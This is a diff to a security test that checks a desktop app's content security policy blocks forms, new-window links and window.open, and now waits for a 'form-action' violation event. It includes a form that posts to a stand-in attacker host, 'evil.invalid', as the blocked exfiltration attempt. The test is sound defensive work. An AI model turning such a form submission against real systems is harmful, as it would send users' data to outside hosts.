@@ -95,13 +95,23 @@ test('a form, a link to a new window and window.open lead nowhere', async () => 
     document.body.append(link)
     link.click()
     link.remove()
-    const form = document.createElement('form')
-    Object.assign(form, { action: 'https://evil.invalid/sent', method: 'post' })
-    document.body.append(form)
-    form.submit()
-    form.remove()
   })
   await refused('window', /linked/)
+  // A form is sent, and refused, a moment after it was asked to be.
+  const directive = await page.evaluate(
+    () =>
+      new Promise<string>(resolve => {
+        document.addEventListener('securitypolicyviolation', event => resolve(event.effectiveDirective), {
+          once: true,
+        })
+        const form = document.createElement('form')
+        Object.assign(form, { action: 'https://evil.invalid/sent', method: 'post' })
+        document.body.append(form)
+        form.submit()
+        form.remove()
+      }),
+  )
+  expect(directive).toBe('form-action')
   await expect.poll(() => page.context().pages().length).toBe(1)
   expect((await desktop.app.view()).networkRequests).toEqual([])
 })
